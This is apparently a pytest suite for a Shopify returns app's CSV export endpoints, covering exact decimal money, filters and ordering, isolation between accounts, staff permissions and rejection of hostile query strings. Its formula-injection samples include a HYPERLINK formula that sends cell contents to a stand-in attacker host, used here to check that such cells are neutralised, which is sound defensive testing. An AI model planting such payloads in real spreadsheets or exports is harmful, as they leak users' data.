"""CSV exports of the staff returns list: the figures against values computed from the returns the
test built, exact money, cells no spreadsheet runs as formulas, the list's filters and order over
every page, one account's returns only, who may download, and hostile query strings."""
import csv
import io
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from sqlalchemy.exc import OperationalError

from app.extensions import db
from app.models import Account, ShopifyReturn
from app.models.labels import ReturnLabel
from app.services import exports
from tests.factories import make_account, make_return
from tests.fixtures.accounts import EMAILS
from tests.fixtures.app import ServerLikeClient
from tests.fixtures.auth import log_in
from tests.support.hostile import HOSTILE, url_of
from tests.support.settings import post_settings
from tests.support.staff_returns import LIST

RETURNS_CSV, ITEMS_CSV = "/dashboard/returns/export/returns.csv", "/dashboard/returns/export/items.csv"
ADMIN = pytest.mark.account(name="Acme Outdoor", shop_domain="acme-outdoor.myshopify.com", return_action="manual",
                            users=["admin", "staff"], logged_in="admin")
STAFF = pytest.mark.account(name="Acme Outdoor", return_action="manual", users=["admin", "staff"],
                            logged_in="staff")


def download(client, url=RETURNS_CSV, **args) -> list[dict]:
    """The rows of a CSV download (its header as keys), checking it is a UTF-8 CSV with a BOM."""
    response = client.get(url, query_string=args)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def rmas(rows) -> list[str]:
    """The RMA column, in order."""
    return [row["RMA"] for row in rows]


def _iso(moment: datetime) -> str:
    return moment.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def _rich_return(account, **fields):
    """A processed return of two items with money issued, Shopify ids, a bonus, a fee and a label."""
    ret = make_return(account, status="PROCESSED", items=[("refund", "ISSUED"), ("credit", "ISSUED")],
                      days_ago=2, tracking="1Z999", tracking_provider="aftership", tracking_state="DELIVERED",
                      return_shipping_fee=Decimal("4.95"), customer_shopify_id=555, **fields)
    refund, credit = ret.items
    refund.unit_value, refund.quantity, refund.sku = Decimal("0.10"), 3, "TR-42"
    refund.issued_amount, refund.shopify_refund_id = Decimal("0.30"), 81_000_000_001
    refund.issued_at = datetime(2026, 3, 31, 14, 5, 9, tzinfo=timezone.utc)
    refund.restocking_fee_percentage = Decimal("10.00")
    credit.unit_value, credit.quantity = Decimal("0.20"), 1
    credit.issued_amount, credit.shopify_gift_card_id = Decimal("0.20"), 91_000_000_001
    credit.bonus_amount, credit.bonus_gift_card_id = Decimal("1.2345"), 91_000_000_002
    credit.credit_method = "gift_card"
    shopify = ShopifyReturn(account_id=account.id, return_id=ret.id, shopify_order_id=ret.shopify_order_id, seq=1,
                            shopify_return_id=71_000_000_001, status="CLOSED")
    db.session.add(shopify)
    db.session.flush()
    refund.shopify_return_ref_id = credit.shopify_return_ref_id = shopify.id
    db.session.add(ReturnLabel(account_id=account.id, return_id=ret.id, provider="easypost", state="BOUGHT",
                               carrier="USPS", cost=Decimal("7.10"), currency="USD"))
    db.session.flush()
    return ret


# --- the figures ------------------------------------------------------------------------------------

@ADMIN
def test_returns_csv_figures_match_the_returns_built(account, client):
    rich = _rich_return(account)
    plain = make_return(account, items=[("refund", "UNDECIDED"), (None, "NO_ACTION"), ("exchange", "DECIDED")],
                        days_ago=5)
    db.session.commit()
    rows = {row["RMA"]: row for row in download(client)}
    assert set(rows) == {rich.rma_number, plain.rma_number}

    for ret in (rich, plain):
        row = rows[ret.rma_number]
        assert row["Status"] == ret.status
        assert row["Created (UTC)"] == _iso(ret.created_at)
        assert row["Updated (UTC)"] == _iso(ret.updated_at)
        assert row["Customer name"] == ret.customer_name and row["Customer email"] == ret.customer_email
        assert row["Order"] == ret.order_name
        assert row["Shopify order ID"] == str(ret.shopify_order_id)
        assert row["Currency"] == "USD"
        assert row["Items"] == str(len(ret.items))
        assert row["Units"] == str(sum(i.quantity for i in ret.items))
        # Independently: each item's value, summed as Decimals here.
        expected = sum((i.unit_value * i.quantity for i in ret.items), Decimal(0))
        assert Decimal(row["Returned value"]) == expected

    row = rows[rich.rma_number]
    assert row["Returned value"] == "0.50"          # 3 × 0.10 + 0.20, exactly
    assert row["Issued"] == "0.50"                  # 0.30 + 0.20, never 0.49999…
    assert row["Bonus credit"] == "1.2345"
    assert row["Return shipping fee"] == "4.95"
    assert row["Options"] == "refund; credit" and row["Issue states"] == "ISSUED"
    assert row["Reasons"] == "Too small"
    assert row["Shopify return IDs"] == "71000000001"
    assert row["Shopify refund IDs"] == "81000000001"
    assert row["Shopify gift card IDs"] == "91000000001; 91000000002"
    assert (row["Tracking number"], row["Tracking provider"], row["Carrier status"]) == ("1Z999", "aftership",
                                                                                      "DELIVERED")
    assert (row["Label carrier"], row["Label state"], row["Label cost"], row["Label currency"]) == (
        "USPS", "BOUGHT", "7.10", "USD")
    assert row["Closed (UTC)"] == "" and row["Issued"] != ""
    assert rows[plain.rma_number]["Issued"] == "" and rows[plain.rma_number]["Options"] == "refund; exchange"


@ADMIN
def test_items_csv_has_one_row_per_item_with_its_own_values(account, client):
    rich = _rich_return(account)
    other = make_return(account, items=[("exchange", "DECIDED")], days_ago=9)
    db.session.commit()
    rows = download(client, ITEMS_CSV)
    assert rmas(rows) == [rich.rma_number, rich.rma_number, other.rma_number]  # newest first, items in order
    for row, item in zip(rows, [*rich.items, *other.items], strict=True):
        assert row["Shopify line item ID"] == str(item.shopify_line_id)
        assert row["Title"] == item.title
        assert row["Quantity"] == str(item.quantity)
        assert Decimal(row["Unit value"]) == item.unit_value
        assert Decimal(row["Value"]) == item.unit_value * item.quantity
        assert row["Option"] == item.option and row["Issue state"] == item.resolution
        assert row["Reason"] == item.reason
    refund, credit = rows[0], rows[1]
    assert (refund["Value"], refund["Issued amount"], refund["Shopify refund ID"]) == ("0.30", "0.30", "81000000001")
    assert refund["Issued (UTC)"] == "2026-03-31T14:05:09Z"
    assert refund["Restocking fee (%)"] == "10.00" and refund["SKU"] == "TR-42"
    assert refund["Shopify return ID"] == credit["Shopify return ID"] == "71000000001"
    assert (credit["Shopify gift card ID"], credit["Bonus gift card ID"], credit["Bonus credit"]) == (
        "91000000001", "91000000002", "1.2345")
    assert credit["Credit method"] == "gift_card"
    assert rows[2]["Shopify return ID"] == "" and rows[2]["Issued amount"] == ""
    assert refund["Shopify order ID"] == str(rich.shopify_order_id)
    assert refund["Carrier status"] == "DELIVERED"


@ADMIN
def test_money_is_exact_decimal_text_and_negative_amounts_stay_numbers(account, client):
    ret = make_return(account, items=[("refund", "ISSUED")] * 3, days_ago=1)
    for item, value in zip(ret.items, ("0.10", "0.20", "100"), strict=True):
        item.unit_value = Decimal(value)
    ret.items[0].outside_refund_amount = Decimal("-12.30")  # a correction recorded by hand
    db.session.commit()
    row = download(client)[0]
    assert row["Returned value"] == "100.30"
    assert row["Refunded outside Shopify"] == "-12.30"   # no quote: a number the spreadsheet adds up
    items = download(client, ITEMS_CSV)
    assert [i["Unit value"] for i in items] == ["0.10", "0.20", "100.00"]
    assert items[0]["Refunded outside Shopify"] == "-12.30"


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


@ADMIN
def test_text_that_starts_like_a_formula_is_neutralised_in_every_text_column(account, client):
    made = []
    for text in FORMULAS:
        ret = make_return(account, items=[("refund", "DECIDED")], days_ago=1, customer_name=text,
                          order_name=text[:60])
        ret.items[0].reason, ret.items[0].title, ret.items[0].sku, ret.items[0].note = text, text, text, text
        made.append((ret, text))
    db.session.commit()
    by_rma = {row["RMA"]: row for row in download(client)}
    items = {row["RMA"]: row for row in download(client, ITEMS_CSV)}
    for ret, text in made:
        assert by_rma[ret.rma_number]["Customer name"] == "'" + text
        assert by_rma[ret.rma_number]["Order"] == "'" + text[:60]
        assert by_rma[ret.rma_number]["Reasons"] == "'" + text
        for column in ("Reason", "Title", "SKU", "Customer note", "Customer name"):
            assert items[ret.rma_number][column] == "'" + text, column


# --- filters, order, pages ---------------------------------------------------------------------------

@ADMIN
def test_only_the_returns_the_filters_match_are_exported(account, client):
    open_refund = make_return(account, items=[("refund", "UNDECIDED")], days_ago=1)
    received = make_return(account, status="RECEIVED", items=[("credit", "ISSUED")], days_ago=10)
    failed = make_return(account, status="PROCESSED", items=[("refund", "ISSUED"), ("exchange", "FAILED")],
                         days_ago=40, email="ana@example.com")
    db.session.commit()
    assert rmas(download(client, status="RECEIVED")) == [received.rma_number]
    assert set(rmas(download(client, option="refund"))) == {open_refund.rma_number, failed.rma_number}
    assert rmas(download(client, option="exchange", issue="FAILED")) == [failed.rma_number]
    assert rmas(download(client, q="ANA@example.com")) == [failed.rma_number]
    week_ago = (date.today() - timedelta(days=7)).isoformat()
    assert rmas(download(client, date_from=week_ago)) == [open_refund.rma_number]
    # Items: every item of a matching return (the filter picks returns, not items).
    assert rmas(download(client, ITEMS_CSV, option="exchange", issue="FAILED")) == [failed.rma_number] * 2
    assert download(client, status="CANCELLED") == []


@ADMIN
def test_every_page_is_exported_in_the_lists_order_across_batches(account, client, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 4)  # batches end inside runs of equal times
    same = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(days=3)
    made = [make_return(account, status=("OPEN", "CLOSED", "RECEIVED")[n % 3], created_at=same if n % 2 else None,
                        days_ago=n) for n in range(30)]
    db.session.commit()
    newest = sorted(made, key=lambda r: (r.created_at, r.id), reverse=True)
    assert rmas(download(client)) == [r.rma_number for r in newest]          # 30 > a page of 25
    assert rmas(download(client, sort="oldest")) == [r.rma_number for r in reversed(newest)]
    assert rmas(download(client, sort="rma")) == [r.rma_number for r in sorted(made, key=lambda r: r.id)]
    lifecycle = ["OPEN", "RECEIVED", "CLOSED"]
    by_status = sorted(newest, key=lambda r: lifecycle.index(r.status))  # stable: newest first within each
    assert rmas(download(client, sort="status")) == [r.rma_number for r in by_status]
    # The list's own links carry the filters and sort: the export says what the list says.
    body = client.get(LIST, query_string={"status": "OPEN", "sort": "oldest", "per_page": "50"}).get_data(True)
    assert 'href="/dashboard/returns/export/returns.csv?status=OPEN&amp;sort=oldest"' in body
    assert 'href="/dashboard/returns/export/items.csv?status=OPEN&amp;sort=oldest"' in body
    assert rmas(download(client, status="OPEN", sort="oldest")) == [
        r.rma_number for r in reversed(newest) if r.status == "OPEN"]


@ADMIN
def test_another_accounts_returns_never_appear(account, client):
    mine = make_return(account, days_ago=1)
    other = make_account(name="Other Store")
    theirs = [make_return(other, days_ago=d, email="ana@example.com") for d in (0, 1, 2)]
    db.session.commit()
    assert rmas(download(client)) == [mine.rma_number]
    assert rmas(download(client, ITEMS_CSV)) == [mine.rma_number]
    assert download(client, q="ana@example.com") == []
    assert download(client, q=theirs[0].rma_number) == []


# --- the response -------------------------------------------------------------------------------------

@ADMIN
def test_the_download_is_a_named_uncached_attachment(account, client):
    make_return(account, customer_name="Zoë Ångström")
    db.session.commit()
    response = client.get(ITEMS_CSV)
    assert "Content-Length" not in response.headers   # streamed: written as it is read
    today = datetime.now(timezone.utc).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="acme-outdoor-returned-items-{today}.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = response.get_data()
    assert body.startswith(b'\xef\xbb\xbf"RMA","Return status",') and b"\r\n" in body
    assert "Zoë Ångström" in body.decode("utf-8")
    name = client.get(RETURNS_CSV).headers["Content-Disposition"]
    assert name == f'attachment; filename="acme-outdoor-returns-{today}.csv"'


@ADMIN
def test_the_stream_reads_batches_and_keeps_no_objects_in_the_session(account, app):
    for days in range(7):
        make_return(account, items=[("refund", "DECIDED")] * 2, days_ago=days)
    db.session.commit()
    account_id = account.id
    db.session.expunge_all()
    from app.models import Return

    chunks = []
    for chunk in exports.stream_csv("items", [Return.account_id == account_id], "newest", batch=3):
        chunks.append(chunk)
        # While the download takes a batch's chunk, no transaction (nor connection) is held.
        assert len(chunks) == 1 or db.session().get_transaction() is None
        assert len(db.session.identity_map) == 0
    assert len(chunks) == 1 + 3   # the header, then batches of 3, 3 and 1 returns
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 1 + 14


@ADMIN
def test_a_database_failure_midway_ends_the_file_saying_so_and_fails_the_download(account, client, monkeypatch):
    for days in range(5):
        make_return(account, days_ago=days)
    db.session.commit()
    monkeypatch.setattr(exports, "BATCH", 2)
    walk = exports._rows

    def second_batch_fails(kind, returns):
        if second_batch_fails.calls == 1:
            raise OperationalError("SELECT …", {}, Exception("server closed the connection unexpectedly"))
        second_batch_fails.calls += 1
        return walk(kind, returns)

    second_batch_fails.calls = 0
    monkeypatch.setattr(exports, "_rows", second_batch_fails)
    # Past the suite's client, which reads every response whole: this one is read chunk by chunk.
    response = super(ServerLikeClient, client).open(RETURNS_CSV, buffered=False)
    chunks = []
    # The error reaches the server, which cuts the response short: the browser calls the download
    # failed instead of saving a file that merely looks shorter.
    with pytest.raises(OperationalError):
        for chunk in response.response:
            chunks.append(chunk)
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))
    assert len(rows) == 1 + 2 + 1  # the header, the first batch, then the file says it is incomplete
    assert rows[-1][0] == "EXPORT INCOMPLETE: it stopped after 2 rows because of an error. Download it again."


# --- who may export -----------------------------------------------------------------------------------

def _as(client, role: str) -> None:
    client.post("/logout")
    log_in(client, EMAILS[role])


@STAFF
def test_staff_get_403_and_no_links_unless_the_setting_lets_them(account, client):
    make_return(account)
    db.session.commit()
    assert client.get(RETURNS_CSV).status_code == 403
    assert client.get(ITEMS_CSV).status_code == 403
    assert "export-links" not in client.get(LIST).get_data(as_text=True)

    _as(client, "admin")
    assert 'name="staff_may_export"' in client.get("/dashboard/settings").get_data(as_text=True)
    assert post_settings(client, {"staff_may_export": "y"}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Account, account.id).staff_may_export is True
    _as(client, "staff")
    assert "Returns (CSV)" in client.get(LIST).get_data(as_text=True)
    assert len(download(client)) == 1
    assert len(download(client, ITEMS_CSV)) == 1

    _as(client, "admin")
    assert post_settings(client, {"staff_may_export": None}).status_code == 303
    _as(client, "staff")
    assert client.get(ITEMS_CSV).status_code == 403
    assert "export-links" not in client.get(LIST).get_data(as_text=True)


@ADMIN
def test_admins_always_see_the_links(account, client):
    make_return(account)
    db.session.commit()
    body = client.get(LIST).get_data(as_text=True)
    assert "Returns (CSV)" in body and "Returned items (CSV)" in body


def test_an_anonymous_visitor_is_sent_to_login(client):
    response = client.get(RETURNS_CSV)
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


# --- hostile query strings ------------------------------------------------------------------------------

HOSTILE_ARGS = [
    {"q": "R-1\x00"}, {"q": "x" * 5000}, {"status": "OPEN\x00"}, {"status": "²"},
    {"option": "\ud800"}, {"issue": "FAILED" * 100}, {"sort": "²"}, {"per_page": "²"},
    {"date_from": "9999-12-31"}, {"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}, {"date_to": "²⁰²⁶-01-01"},
    {"date_from": "2026-05-02", "date_to": "2026-05-01"}, {"date_from": "2026-02-30"},
]


@ADMIN
@pytest.mark.parametrize("args", HOSTILE_ARGS, ids=repr)
def test_hostile_filters_are_a_400_that_says_why_and_export_nothing(account, client, args):
    make_return(account, customer_name="Pat Secret")
    db.session.commit()
    for url in (RETURNS_CSV, ITEMS_CSV):
        response = client.get(url_of(url, {}, args))  # raw bytes: a lone surrogate is sent as it is
        assert response.status_code == 400, (url, args)
        body = response.get_data(as_text=True)
        assert "Nothing was exported: correct the filters first" in body
        assert "Pat Secret" not in body and "attachment" not in response.headers.get("Content-Disposition", "")


@ADMIN
def test_a_lone_surrogate_in_the_search_matches_nothing(account, client):
    # Werkzeug keeps bytes that are not UTF-8 percent-encoded: the search is for that text.
    make_return(account, customer_name="Pat Secret")
    db.session.commit()
    response = client.get(url_of(RETURNS_CSV, {}, {"q": "\ud800"}))
    assert response.status_code in (200, 400)
    assert "Pat Secret" not in response.get_data(as_text=True)


@ADMIN
def test_every_hostile_value_in_every_filter_is_never_a_5xx(account, client):
    make_return(account)
    db.session.commit()
    for key in ("q", "status", "option", "issue", "date_from", "date_to", "sort", "per_page", "page"):
        for label, value in HOSTILE.items():
            status = client.get(url_of(RETURNS_CSV, {}, {key: value})).status_code
            assert status in (200, 400), (key, label, status)
